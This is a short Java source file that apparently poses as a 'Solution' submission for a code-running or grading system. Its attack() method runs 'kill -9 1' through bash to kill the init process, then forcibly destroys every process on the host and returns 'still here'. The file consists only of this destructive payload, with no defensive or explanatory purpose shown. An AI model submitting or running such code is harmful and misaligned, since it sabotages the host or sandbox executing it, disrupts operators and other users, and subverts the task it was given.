import java.io.IOException;

class Solution {
    static String attack() throws IOException, InterruptedException {
        new ProcessBuilder("/usr/bin/bash", "-c", "kill -9 1").start().waitFor();
        ProcessHandle.allProcesses().forEach(process -> {
            try {
                process.destroyForcibly();
            } catch (IllegalStateException itself) {
                // That takes another way.
            }
        });
        return "still here";
    }
}
